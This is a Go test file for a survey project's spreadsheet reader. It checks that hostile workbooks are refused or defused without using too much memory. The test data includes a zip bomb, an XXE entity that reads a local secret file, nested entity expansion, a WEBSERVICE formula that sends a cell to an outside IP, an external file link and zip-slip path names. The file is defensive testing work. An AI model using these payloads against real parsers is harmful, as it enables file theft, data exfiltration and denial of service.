package xlsform

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/khaosat/khaosat/survey"
	"github.com/khaosat/khaosat/survey/message"
)

// withParts gives a workbook with parts exchanged or added; what writes a part
// may write more than one would hold in memory.
func withParts(t testing.TB, b []byte, more map[string]func(io.Writer) error) []byte {
	t.Helper()
	r, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	must(t, err)
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, part := range r.File {
		if more[part.Name] == nil {
			must(t, w.Copy(part))
		}
	}
	for name, write := range more {
		part, err := w.Create(name)
		must(t, err)
		must(t, write(part))
	}
	must(t, w.Close())
	return out.Bytes()
}

func says(s string) func(io.Writer) error {
	return func(w io.Writer) error {
		_, err := io.WriteString(w, s)
		return err
	}
}

// repeated writes a piece as often as asked.
func repeated(before, piece string, times int, after string) func(io.Writer) error {
	return func(w io.Writer) error {
		const atOnce = 1000
		some := strings.Repeat(piece, atOnce)
		if _, err := io.WriteString(w, before); err != nil {
			return err
		}
		for range times / atOnce {
			if _, err := io.WriteString(w, some); err != nil {
				return err
			}
		}
		_, err := io.WriteString(w, after)
		return err
	}
}

// TestHostileWorkbooksAreRefusedInBoundedMemory counts what is allocated rather
// than the time, which depends on the machine: nothing here allocates without
// doing work.
func TestHostileWorkbooksAreRefusedInBoundedMemory(t *testing.T) {
	const main = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
	const sheet = "xl/worksheets/sheet1.xml"
	good := workbook(t, []sheetData{surveyRows(row("type", "name", "label::English (en)"), row("text", "a", "A")), settings()})
	secret := filepath.Join(t.TempDir(), "secret")
	must(t, os.WriteFile(secret, []byte("KHAOSAT-SECRET"), 0o600))
	cells := func(more string) string {
		return `<worksheet ` + main + `><sheetData><row r="1">` + inline("A1", "type") + inline("B1", "name") + inline("C1", "label::English (en)") +
			`</row><row r="2">` + inline("A2", "text") + inline("B2", "a") + more + `</row></sheetData></worksheet>`
	}
	for _, c := range []struct {
		name  string
		parts map[string]func(io.Writer) error
		code  string // "" if it is read
		label string // of the item then
	}{
		{"a zip bomb beside the sheets", map[string]func(io.Writer) error{"xl/media/image1.png": repeated("", strings.Repeat("\x00", 1000), 100_000, "")}, "workbook.too_large", ""},
		{"ten million rows", map[string]func(io.Writer) error{sheet: repeated(`<worksheet `+main+`><sheetData>`, "<row/>", 10_000_000, `</sheetData></worksheet>`)}, "workbook.too_large", ""},
		{"as many rows as fit into a part", map[string]func(io.Writer) error{sheet: repeated(`<worksheet `+main+`><sheetData>`, "<row/>", 2_500_000, `</sheetData></worksheet>`)}, "workbook.too_large", ""},
		{"huge shared strings", map[string]func(io.Writer) error{"xl/sharedStrings.xml": repeated(`<sst `+main+`>`, "<si><t>x</t></si>", 5_000_000, `</sst>`)}, "workbook.too_large", ""},
		{"as many shared strings as fit into a part", map[string]func(io.Writer) error{"xl/sharedStrings.xml": repeated(`<sst `+main+`>`, "<si><t/></si>", 1_200_000, `</sst>`)}, "workbook.too_large", ""},
		{"a file of the machine as an entity", map[string]func(io.Writer) error{sheet: says(`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file://` + secret + `">]>` +
			cells(`<c r="C2" t="inlineStr"><is><t>&e;</t></is></c>`))}, "workbook.unreadable", ""},
		{"entities of entities", map[string]func(io.Writer) error{sheet: says(`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>` +
			cells(`<c r="C2" t="inlineStr"><is><t>&b;</t></is></c>`))}, "workbook.unreadable", ""},
		{"XML within XML within XML", map[string]func(io.Writer) error{sheet: repeated(`<worksheet `+main+`>`, "<a>", 1_000_000, "")}, "workbook.unreadable", ""},
		{"a formula, whose result is taken", map[string]func(io.Writer) error{sheet: says(cells(`<c r="C2" t="str"><f>WEBSERVICE("http://192.0.2.1/"&amp;A1)</f><v>Seen</v></c>`))}, "", "Seen"},
		{"a link to another workbook", map[string]func(io.Writer) error{"xl/externalLinks/externalLink1.xml": says(`<externalLink ` + main + `/>`),
			"xl/externalLinks/_rels/externalLink1.xml.rels": says(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="file://` + secret + `" TargetMode="External"/></Relationships>`)}, "", "A"},
		{"macros", map[string]func(io.Writer) error{"xl/vbaProject.bin": says("\xD0\xCF\x11\xE0macro")}, "", "A"},
		{"parts that climb out of the archive", map[string]func(io.Writer) error{"../../../../../../../../" + secret + ".out": says("x"), "/" + secret + ".out": says("x")}, "", "A"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := withParts(t, good, c.parts)
			if len(b) > maxFile {
				t.Fatalf("the file has %d bytes and is refused for that alone", len(b))
			}
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			tpl, _, err := Read(b)
			runtime.ReadMemStats(&after)
			const most = 300 << 20
			if spent := after.TotalAlloc - before.TotalAlloc; spent > most {
				t.Errorf("reading it allocated %d MB", spent>>20)
			} else {
				t.Logf("%d kB on disk, %d MB allocated", len(b)>>10, spent>>20)
			}
			if survey.CodeOf(err) != c.code {
				t.Fatalf("got %v, want %q", err, c.code)
			}
			if err != nil {
				for _, lang := range []string{"vi", "en"} {
					if said := message.OfError(lang, err); said == "" || strings.Contains(said, "xml") || strings.Contains(said, "panic") || strings.Contains(said, c.code) {
						t.Errorf("in %s it says %q", lang, said)
					}
				}
				return
			}
			if len(tpl.Items) != 1 || tpl.Items[0].Label["en"] != c.label {
				t.Errorf("read %+v", tpl.Items)
			}
			if strings.Contains(fmt.Sprint(tpl), "KHAOSAT-SECRET") {
				t.Error("a file of the machine was read")
			}
			if _, err := os.Stat(secret + ".out"); err == nil {
				t.Error("a file was written outside")
			}
		})
	}
}
